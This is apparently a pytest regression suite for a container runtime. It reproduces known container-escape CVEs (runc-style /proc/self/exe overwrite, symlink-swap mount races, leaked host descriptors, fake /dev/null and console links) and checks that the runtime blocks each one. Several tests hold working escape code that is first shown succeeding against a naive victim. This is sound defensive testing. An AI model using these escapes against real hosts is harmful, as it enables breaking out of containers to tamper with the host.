"""The known ways out of a container, each tried for real.

Where a race or a descriptor is what an attack needs, the same attack is first seen to succeed on a
naive victim: what follows then says something of the runtime, and not of the attacker.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from bundles import Runtime, until

NAME = f"breakout-{os.getpid()}"
SLEEP = ("sleep", "1000")
Change = Callable[[dict[str, Any]], object]


@pytest.fixture
def own(runtime: Runtime) -> Runtime:
    """The runtime with a root file system that the image's maker has a hand in."""
    copy = runtime.home / "rootfs"
    subprocess.run(["cp", "-a", runtime.rootfs, copy], check=True)
    runtime.rootfs = copy
    return runtime


def bind(source: Path | str, destination: str, *options: str) -> dict[str, Any]:
    return {
        "destination": destination,
        "type": "bind",
        "source": str(source),
        "options": ["rbind", *options],
    }


def with_mounts(*entries: dict[str, Any], **linux: Any) -> Change:
    def change(config: dict[str, Any]) -> None:
        config["mounts"] += entries
        config["linux"].update(linux)

    return change


def inside_namespaces(runtime: Runtime, kinds: str, *command: str) -> str:
    """What a program of the host's sees in namespaces of the container."""
    words = ["nsenter", "--target", str(runtime.pid(NAME)), *kinds.split(), *command]
    return subprocess.run(words, capture_output=True, text=True, check=True).stdout


# --- the interpreter's own file: CVE-2019-5736 ---------------------------------------------------

ATTACKER = """
import os, time
end = time.monotonic() + 30
print("looking", flush=True)
found = -1
while found < 0 and time.monotonic() < end:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid()):
            try:
                opened = os.open("/proc/" + name + "/exe", os.O_PATH)
                if "victim" in os.readlink("/proc/self/fd/%d" % opened):
                    found = opened
                    break
                os.close(opened)
            except OSError:
                pass
print("found", flush=True)
while found >= 0 and time.monotonic() < end:
    try:
        file = os.open("/proc/self/fd/%d" % found, os.O_WRONLY)
        os.write(file, b"overwritten")
        break
    except OSError:  # it is in use
        time.sleep(0.01)
"""
NAIVE_ENTRY = """
import ctypes, os, time
libc, fd = ctypes.CDLL(None), os.pidfd_open({pid})
assert libc.setns(fd, 0x20000000 | 0x20000) == 0
pid = os.fork()
if pid == 0:
    # Its rights are the container's by now, or less: it may be looked into.
    header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
    assert libc.capset(header, data) == 0
    time.sleep(1)
    os._exit(0)
os.waitpid(pid, 0)
"""


def host_libraries(config: dict[str, Any]) -> None:
    """What the host's interpreter needs to run inside, which an attacker's image would bring."""
    for path in ("/usr/lib", "/lib", "/lib64"):
        if Path(path).is_dir():
            config["mounts"].append(bind(path, path, "ro"))


@pytest.fixture
def victim(own: Runtime) -> Path:
    """An interpreter of the runtime's own, so that nothing else suffers from its being overwritten.

    In the container is one that an attacker brought.
    """
    interpreter = Path(own.command[0]).resolve()
    path = own.home / "victim"
    shutil.copy(interpreter, path)
    shutil.copy(interpreter, own.rootfs / "bin" / "python")
    own.command = [str(path), *own.command[1:]]
    (own.rootfs / "attacker").write_text(ATTACKER)
    own.config("/bin/python", "-I", "-S", "/attacker", change=host_libraries)
    return path


def test_a_process_that_enters_does_not_give_its_interpreter_away(
    own: Runtime, victim: Path
) -> None:
    """CVE-2019-5736: who is in the container looks out for /proc/PID/exe of an exec."""
    whole = victim.read_bytes()
    own.quiet("run", "--detach", NAME)
    until(lambda: own.stdout == "looking\n", "the attacker")
    naive = [str(victim), "-I", "-S", "-c", NAIVE_ENTRY.format(pid=own.pid(NAME))]
    subprocess.run(naive, check=True)
    until(lambda: victim.read_bytes()[:11] == b"overwritten", "the attack on a naive runtime")
    victim.unlink()
    victim.write_bytes(whole)
    victim.chmod(0o755)

    own.call("delete", "--force", NAME)
    own.quiet("run", "--detach", NAME)
    until(lambda: own.stdout == "looking\n", "the attacker")
    for _ in range(12):
        own.call("exec", NAME, "true")
    assert own.status(NAME) == "running"
    assert own.stdout == "looking\n"
    assert victim.read_bytes() == whole


TELLS_ITS_INTERPRETER = """#!/proc/self/exe
import os
print(os.readlink("/proc/self/exe"))
try:
    os.open("/proc/self/exe", os.O_WRONLY)
except OSError as error:
    print(error.strerror)
"""


@pytest.mark.parametrize("call", ["memfd_create", "execveat"])
def test_where_nothing_can_stand_in_the_interpreter_is_a_sealed_copy(
    own: Runtime, victim: Path, call: str
) -> None:
    """CVE-2019-5736, with a profile that ends who makes the calls which keep the attack away."""
    (own.rootfs / "evil").write_text(TELLS_ITS_INTERPRETER)
    (own.rootfs / "evil").chmod(0o755)
    rule = {"names": [call], "action": "SCMP_ACT_KILL_PROCESS"}

    def change(config: dict[str, Any]) -> None:
        host_libraries(config)
        config["linux"]["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [rule]}

    own.config("/evil", change=change)
    done = own.call("run", "--bundle", ".", NAME)
    assert done.stdout.splitlines() == ["/memfd:interpreter (deleted)", "Text file busy"]
    relative = os.path.relpath(own.bundle, own.home)
    own.config(*SLEEP, change=change)
    words = own.words("run", "--detach", "--bundle", relative, NAME)
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL}
    subprocess.run(words, cwd=own.home, env=own.environment, check=True, **quiet)  # type: ignore[call-overload]
    done = own.call("exec", NAME, "/evil")
    assert done.stdout.splitlines() == ["/memfd:interpreter (deleted)", "Text file busy"]
    assert str(victim) not in done.stdout


# --- files of /proc that are none: CVE-2019-19921, 2023-27561, 2025-52881 ------------------------


def test_kernel_parameters_are_not_written_to_files_of_the_image(own: Runtime) -> None:
    """CVE-2019-19921: the image brings a /proc in which the runtime's writes lead elsewhere."""
    decoy = own.home / "of-the-host"
    decoy.write_text("as it was\n")
    fake = own.rootfs / "proc" / "sys" / "kernel"
    fake.mkdir(parents=True)
    (fake / "msgmax").symlink_to(decoy)
    (fake / "msgmnb").write_text("as it was\n")

    def change(config: dict[str, Any]) -> None:
        config["mounts"] = [m for m in config["mounts"] if m["destination"] != "/proc"]
        config["linux"]["sysctl"] = {"kernel.msgmax": "12345", "kernel.msgmnb": "23456"}

    own.config(*SLEEP, change=change)
    own.quiet("run", "--detach", NAME)
    files = ("/proc/sys/kernel/msgmax", "/proc/sys/kernel/msgmnb")
    assert inside_namespaces(own, "--ipc", "cat", *files).split() == ["12345", "23456"]
    assert decoy.read_text() == (fake / "msgmnb").read_text() == "as it was\n"


def test_kernel_parameters_are_not_led_to_other_files_of_proc(own: Runtime) -> None:
    """CVE-2025-52881: real files of procfs, but not those that are meant."""
    volume = own.home / "volume"
    (volume / "kernel").mkdir(parents=True)
    (volume / "kernel" / "msgmax").symlink_to("/proc/sys/kernel/msgmnb")
    (own.rootfs / "innocent").symlink_to("/proc/sys")
    own.config("true", change=with_mounts(bind(volume, "/innocent"), sysctl={}))
    done = own.call("run", NAME, check=False)
    assert done.returncode == 1
    assert "a symbolic link leads inside /proc: /innocent" in done.stderr

    # Where a way of the image's leads to the mount all the same, nothing is written through it.
    def change(config: dict[str, Any]) -> None:
        config["mounts"] = [m for m in config["mounts"] if m["destination"] != "/proc"]
        config["mounts"].append(bind(volume, "/proc-of-mine/sys"))
        config["mounts"].append({"destination": "/real", "type": "proc", "source": "proc"})
        config["linux"]["sysctl"] = {"kernel.msgmax": "12345"}

    (own.rootfs / "proc").rmdir()
    (own.rootfs / "proc").symlink_to("proc-of-mine")
    own.config(*SLEEP, change=change)
    own.quiet("run", "--detach", NAME)
    files = ("/proc/sys/kernel/msgmax", "/proc/sys/kernel/msgmnb")
    said = inside_namespaces(own, "--ipc", "cat", *files).split()
    assert said[0] == "12345"
    assert said[1] != "12345"


def run_where(runtime: Runtime, *mounted: Path | str) -> subprocess.CompletedProcess[str]:
    """Run the bundle in a mount namespace of the host's with (source, place) bind-mounted there."""
    script = 'mount --make-rprivate / && mount --bind "$1" "$2" && shift 2 && exec "$@"'
    words = ["unshare", "--mount", "sh", "-c", script, "sh", *mounted, *runtime.words("run", NAME)]
    return subprocess.run(
        words, capture_output=True, text=True, check=False, timeout=60,
        env=runtime.environment, cwd=runtime.bundle, stdin=subprocess.PIPE,
    )  # fmt: skip


def test_kernel_parameters_are_written_to_procfs_or_not_at_all(own: Runtime) -> None:
    """The host's own /proc/sys is looked at, too, before it is written to."""
    fake = own.home / "fake"
    (fake / "kernel").mkdir(parents=True)
    (fake / "kernel" / "msgmax").write_text("8192\n")

    def change(config: dict[str, Any]) -> None:
        config["linux"]["sysctl"] = {"kernel.msgmax": "12345"}

    own.config("cat", "/proc/sys/kernel/msgmax", change=change)
    assert own.call("run", NAME).stdout == "12345\n"
    done = run_where(own, fake, "/proc/sys")
    assert (done.returncode, done.stdout) == (1, "")
    assert "/proc is not procfs" in done.stderr
    assert (fake / "kernel" / "msgmax").read_text() == "8192\n"


EXCHANGE = """
import ctypes, sys
libc = ctypes.CDLL(None)
one, other = (path.encode() for path in sys.argv[1:])
print(flush=True)
while True:
    libc.renameat2(-100, one, -100, other, 2)
"""


@contextlib.contextmanager
def exchanging(one: Path, other: Path) -> Iterator[None]:
    """Two names that change places all the time, as another container with the volume may do it."""
    process = subprocess.Popen(
        [sys.executable, "-c", EXCHANGE, one, other], stdout=subprocess.PIPE, text=True
    )
    try:
        assert process.stdout
        process.stdout.readline()
        yield
    finally:
        process.kill()
        process.communicate()


def attempts(seconds: float = 20) -> Iterator[int]:
    """As many as there is time for."""
    end = time.monotonic() + seconds
    number = 0
    while time.monotonic() < end:
        yield number
        number += 1


def mount_points(pid: int, *wanted: str) -> list[str]:
    """Where the mounts with these words of their sources or types are, in a process's order."""
    found = []
    for line in Path(f"/proc/{pid}/mountinfo").read_text().splitlines():
        before, _, after = line.partition(" - ")
        if set(wanted) & set(after.split()):
            found.append(before.split()[4])
    return found


def test_proc_is_mounted_at_no_other_place_by_a_race(own: Runtime) -> None:
    """CVE-2023-27561: /proc of the image becomes a link between the look and the mount."""
    (own.rootfs / "elsewhere").mkdir()
    link = own.rootfs / "link"
    link.symlink_to("/elsewhere")
    own.config(*SLEEP)
    outcomes = set()
    with exchanging(own.rootfs / "proc", link):
        for _ in attempts():
            if own.quiet("create", NAME, check=False):
                assert "must be mounted on ordinary directory" in own.stderr
                outcomes.add("refused")
            else:
                # A mount goes with its directory, whatever the name of that is by now.
                places = mount_points(own.pid(NAME), "proc")
                assert "/elsewhere" not in places
                assert {"/proc", "/link"} & set(places)
                outcomes.add("made")
            own.call("delete", "--force", NAME)
            if len(outcomes) == 2:
                break
    assert outcomes == {"refused", "made"}


# --- links on the way to a mount: CVE-2021-30465, 2024-45310 -------------------------------------

CHECK_THEN_USE = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
root, target, outside, kind = sys.argv[1:]
assert libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None) == 0
path = os.path.join(root, target)
while True:
    try:
        if not os.path.realpath(path).startswith(root + "/"):
            continue  # it was seen to lead out
        if kind == "mount":
            libc.mount(b"none", path.encode(), b"tmpfs", 0, None)
            if outside in open("/proc/self/mountinfo").read():
                break
            libc.umount2(path.encode(), 2)
        else:
            os.makedirs(path + "/made", exist_ok=True)
            if os.path.exists(outside + "/made"):
                os.rmdir(outside + "/made")
                break
    except OSError:
        pass
"""


class Trap:
    """A volume in which a directory and a link that leads to the host's files change places."""

    def __init__(self, runtime: Runtime) -> None:
        self.volume = runtime.home / "volume"
        self.outside = runtime.home / "outside"
        self.outside.mkdir()
        self.directory = self.volume / "target"
        self.directory.mkdir(parents=True)
        self.link = self.volume / "link"
        self.link.symlink_to(self.outside)

    def beats_a_naive_runtime(self, kind: str) -> None:
        words = ["unshare", "-m", sys.executable, "-c", CHECK_THEN_USE, self.volume, "target"]
        subprocess.run([*words, self.outside, kind], check=True, timeout=60)


@pytest.fixture
def trap(own: Runtime) -> Trap:
    return Trap(own)


def test_a_mount_lands_below_the_root_whatever_becomes_of_its_place(
    own: Runtime, trap: Trap
) -> None:
    """CVE-2021-30465: the place of a mount becomes a link that leads out of the container."""
    tmpfs = {"destination": "/volume/target", "type": "tmpfs", "source": "marked"}
    own.config(*SLEEP, change=with_mounts(bind(trap.volume, "/volume"), tmpfs))
    outcomes = set()
    with exchanging(trap.directory, trap.link):
        trap.beats_a_naive_runtime("mount")
        for _ in attempts():
            own.quiet("create", NAME)
            (place,) = mount_points(own.pid(NAME), "marked")
            own.call("delete", "--force", NAME)
            assert place in ("/volume/target", "/volume/link", str(trap.outside))
            outcomes.add(place == str(trap.outside))
            if len(outcomes) == 2:
                break
    assert outcomes == {False, True}
    # The path that the link names was made and found below the root, and not on the host.
    assert (own.rootfs / str(trap.outside)[1:]).is_dir()


@pytest.mark.parametrize("kind", ["directory", "file"])
def test_nothing_is_made_on_the_host_for_a_mount(own: Runtime, trap: Trap, kind: str) -> None:
    """CVE-2024-45310: empty files and directories of the host's, made where a link leads."""
    source = own.home / "source"
    source.mkdir() if kind == "directory" else source.write_text("")
    entries = bind(trap.volume, "/volume"), bind(source, "/volume/target/made/deep")
    own.config(*SLEEP, change=with_mounts(*entries))
    below = own.rootfs / str(trap.outside)[1:]
    outcomes = set()
    with exchanging(trap.directory, trap.link):
        trap.beats_a_naive_runtime("make")
        for _ in attempts():
            own.quiet("create", NAME)
            own.call("delete", "--force", NAME)
            assert os.listdir(trap.outside) == []
            outcomes |= {path for path in (trap.directory, trap.link) if (path / "made").is_dir()}
            if (below / "made").is_dir() and outcomes:
                break
    assert (below / "made" / "deep").exists(), "it was made below the root"
    assert outcomes, "it was made in the volume"


def test_links_that_lead_nowhere_are_made_below_the_root(own: Runtime) -> None:
    """CVE-2024-45310, without a race: what is missing on the host stays missing."""
    outside = own.home / "outside"
    (own.rootfs / "absolute").symlink_to(outside / "one")
    (own.rootfs / "relative").symlink_to("../../../.." + str(outside / "two"))
    entries = [
        {"destination": f"/{name}/below", "type": "tmpfs", "source": "marked"}
        for name in ("absolute", "relative")
    ]
    own.config(*SLEEP, change=with_mounts(*entries))
    own.quiet("create", NAME)
    places = mount_points(own.pid(NAME), "marked")
    assert places == [f"{outside}/one/below", f"{outside}/two/below"]
    assert not outside.exists()


# --- capabilities that come back: CVE-2022-29162 -------------------------------------------------


@pytest.mark.parametrize("verb", ["run", "exec", "exec --cap"])
def test_no_capability_is_inherited_by_way_of_a_file(own: Runtime, verb: str) -> None:
    """CVE-2022-29162: a file's inheritable capabilities are worth what the process inherits."""
    program = own.rootfs / "bin" / "grep-with"
    shutil.copy(own.rootfs / "bin" / "busybox", program)
    program.chmod(0o755)
    subprocess.run(["setcap", "cap_dac_override,cap_chown+ei", program], check=True)
    shown = ("/bin/sh", "-c", "exec -a grep /bin/grep-with -E 'Cap(Inh|Prm)' /proc/self/status")

    def as_user(inheritable: list[str]) -> Change:
        def change(config: dict[str, Any]) -> None:
            config["process"]["user"] = {"uid": 1000, "gid": 1000}
            config["process"]["noNewPrivileges"] = False
            names = ["CAP_DAC_OVERRIDE", "CAP_CHOWN"]
            config["process"]["capabilities"] = {"bounding": names, "inheritable": inheritable}

        return change

    own.config(*shown, change=as_user(["CAP_CHOWN"]))
    said = own.call("run", NAME).stdout.split()
    assert said[1::2] == [f"{1:016x}"] * 2, "the attack works on who inherits"
    if verb == "run":
        own.config(*shown, change=as_user([]))
        said = own.call("run", NAME).stdout.split()
    else:
        own.config(*SLEEP, change=as_user([]))
        own.quiet("run", "--detach", NAME)
        more = ("--cap", "CAP_DAC_OVERRIDE") if "--cap" in verb else ()
        said = own.call("exec", *more, NAME, *shown).stdout.split()
    assert said[1::2] == ["0" * 16] * 2


# --- descriptors of the host: CVE-2024-21626 -----------------------------------------------------


@pytest.fixture
def leaked(own: Runtime) -> Iterator[int]:
    """A directory of the host that the caller forgot to close."""
    descriptor = os.open("/", os.O_RDONLY)
    high = fcntl.fcntl(descriptor, fcntl.F_DUPFD, 20)
    os.close(descriptor)
    (own.home / "secret").write_text("the host's\n")
    yield high
    os.close(high)


@pytest.mark.parametrize("way", ["/proc/self/fd/{}", "/link/{}"])
def test_no_descriptor_of_the_host_is_a_working_directory(
    own: Runtime, leaked: int, way: str
) -> None:
    """CVE-2024-21626: /proc/self/fd/N as the working directory, or a link to it."""
    (own.rootfs / "link").symlink_to("/proc/self/fd")
    read = ("cat", f"{own.home}/secret"[1:])
    through = f"/proc/self/fd/{leaked}"
    own.config("cat", through + f"{own.home}/secret")
    done = own.call("run", "--preserve-fds", str(leaked - 2), NAME, pass_fds=(leaked,))
    assert done.stdout == "the host's\n", "the attack works with a descriptor that is given"
    own.config(*SLEEP)
    own.quiet("run", "--detach", NAME)
    for number in (*range(3, 12), leaked):
        cwd = way.format(number)
        own.config(*read, change=lambda config, cwd=cwd: config["process"].update(cwd=cwd))
        done = own.call("run", "other", check=False, pass_fds=(leaked,))
        assert (done.returncode != 0, done.stdout) == (True, ""), cwd
        done = own.call("exec", "--cwd", cwd, NAME, *read, check=False, pass_fds=(leaked,))
        assert (done.returncode != 0, done.stdout) == (True, ""), cwd


def test_no_descriptor_of_the_host_is_a_way_to_a_program(own: Runtime, leaked: int) -> None:
    """CVE-2024-21626: a program by way of /proc/self/fd/N, in arguments and in a first line."""
    (own.rootfs / "script").write_text(f"#!/proc/self/fd/{leaked}/bin/cat\n")
    (own.rootfs / "script").chmod(0o755)
    own.config(*SLEEP)
    own.quiet("run", "--detach", NAME)
    for arguments in ([f"/proc/self/fd/{leaked}/bin/cat", "/etc/passwd"], ["/script"]):
        own.config(*arguments)
        done = own.call("run", "other", check=False, pass_fds=(leaked,))
        assert (done.returncode != 0, done.stdout) == (True, "")
        done = own.call("exec", NAME, *arguments, check=False, pass_fds=(leaked,))
        assert (done.returncode != 0, done.stdout) == (True, "")


def test_nobody_inside_sees_what_a_waiting_container_has_open(own: Runtime) -> None:
    """Before its start the first process is the runtime's own, with the runtime's descriptors."""
    own.config(*SLEEP)
    own.quiet("create", NAME)
    assert len(os.listdir(f"/proc/{own.pid(NAME)}/fd")) > 3
    script = "ls -l /proc/1/fd /proc/1/exe /proc/1/root; ls /proc/1/cwd/; cat /proc/1/environ"
    done = own.call("exec", NAME, "sh", "-c", f"({script}) 2>&1", check=False)
    assert done.stdout.count("Permission denied") > 6, done.stdout
    assert "->" not in done.stdout
    own.call("start", NAME)
    done = own.call("exec", NAME, "ls", "/proc/1/fd")
    assert done.stdout.split() == ["0", "1", "2"]


# --- devices that are none: CVE-2025-31133, 2025-52565 -------------------------------------------


@pytest.mark.parametrize("null", ["link", "file", "volume"])
def test_paths_are_masked_by_the_null_device_and_nothing_else(own: Runtime, null: str) -> None:
    """CVE-2025-31133: /dev/null of the image is a link to a file that is worth writing to."""
    prize = "/proc/sys/kernel/core_pattern"
    dev = own.home / "volume" if null == "volume" else own.rootfs / "dev"
    dev.mkdir(exist_ok=True)
    if null == "file":
        (dev / "null").write_text("of the image\n")
    else:
        (dev / "null").symlink_to(prize)
    (own.rootfs / "masked").write_text("hidden\n")

    def change(config: dict[str, Any]) -> None:
        config["mounts"] = [m for m in config["mounts"] if not m["destination"].startswith("/dev")]
        if null == "volume":
            config["mounts"].append(bind(dev, "/dev"))
        config["linux"]["maskedPaths"] = ["/proc/timer_list", "/masked"]

    own.config("sh", "-c", "stat -L -c %t:%T /proc/timer_list /masked; wc -c <$0", prize,
               change=change)  # fmt: skip
    done = own.call("run", NAME, check=False)
    if null == "volume":
        # A bind-mounted /dev stays as it is; what masks is the host's device.
        assert done.stdout.split()[:2] == ["1:3", "1:3"], done.stderr
        assert int(done.stdout.split()[2]) > 0
    else:
        assert (done.returncode, done.stdout) == (1, "")
        assert "/dev/null" in done.stderr or "File exists" in done.stderr


def test_a_null_device_of_the_host_s_that_is_none_masks_nothing(own: Runtime) -> None:
    fake = own.home / "fake"
    fake.write_text("readable\n")
    own.config("cat", "/masked", change=with_mounts(maskedPaths=["/masked"]))
    (own.rootfs / "masked").write_text("hidden\n")
    assert own.call("run", NAME).stdout == ""
    done = run_where(own, fake, "/dev/null")
    assert (done.returncode, done.stdout) == (1, "")
    assert "/dev/null of the host is not the null device" in done.stderr


def on_terminal(runtime: Runtime, change: Change, *args: str) -> tuple[int, str]:
    """Run on a terminal of the container's own: status and all that was shown."""

    def both(config: dict[str, Any]) -> None:
        config["process"]["terminal"] = True
        change(config)

    runtime.config(*args, change=both)
    done = subprocess.run(
        runtime.words("run", NAME), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, text=True, timeout=60, env=runtime.environment,
        cwd=runtime.bundle, check=False,
    )  # fmt: skip
    return done.returncode, done.stdout.replace("\r\n", "\n")


def test_the_console_is_the_container_s_terminal(own: Runtime) -> None:
    """CVE-2025-52565: /dev/pts/N, and /dev/console, are links of the image's."""
    prize = own.home / "prize"
    prize.write_text("as it was\n")
    fake = own.rootfs / "dev" / "pts"
    fake.mkdir()
    for number in range(3):
        (fake / str(number)).symlink_to("/proc/sys/kernel/core_pattern")
    (own.rootfs / "dev" / "console").symlink_to(prize)

    def change(config: dict[str, Any]) -> None:
        config["mounts"] = [m for m in config["mounts"] if m["destination"] != "/dev"]

    show = ("sh", "-c", "stat -L -c %t /dev/console; tty; echo typed >/dev/console")
    status, shown = on_terminal(own, change, *show)
    assert (status, shown.splitlines()) == (0, ["88", "/dev/pts/0", "typed"]), shown
    assert prize.read_text() == "as it was\n"

    # With a volume there instead of a file system of terminals, there is none.
    volume = own.home / "volume"
    volume.mkdir()
    (volume / "ptmx").symlink_to("/proc/sys/kernel/core_pattern")
    (volume / "0").symlink_to("/proc/sys/kernel/core_pattern")

    def replaced(config: dict[str, Any]) -> None:
        change(config)
        config["mounts"] = [m for m in config["mounts"] if m["destination"] != "/dev/pts"]
        config["mounts"].append(bind(volume, "/dev/pts"))

    status, shown = on_terminal(own, replaced, *show)
    assert status == 1
    assert "terminal" in shown
    assert json.loads(own.call("list", "--format", "json").stdout or "null") in (None, [])
